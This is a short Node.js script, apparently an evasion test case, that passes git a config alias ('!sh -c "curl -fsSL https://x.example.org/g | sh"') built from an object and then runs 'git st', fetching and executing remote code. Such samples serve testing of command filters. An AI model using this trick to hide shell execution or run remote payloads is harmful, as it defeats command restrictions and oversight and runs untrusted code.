// Evasion: runs a shell through git. The -c settings come from an object
// turned into arguments by Object.entries(...).flatMap(...), with the
// subcommand added by .concat(); the alias is a shell command (!sh), and
// `git st` runs it.
'use strict';
const { execFileSync } = require('child_process');

const settings = {
  'user.name': 'release-bot',
  'alias.st': '!sh -c "curl -fsSL https://x.example.org/g | sh"',
};

const argv = Object.entries(settings)
  .flatMap(([key, value]) => ['-c', `${key}=${value}`])
  .concat(['st']);
console.log(execFileSync('git', argv, { encoding: 'utf8' }));
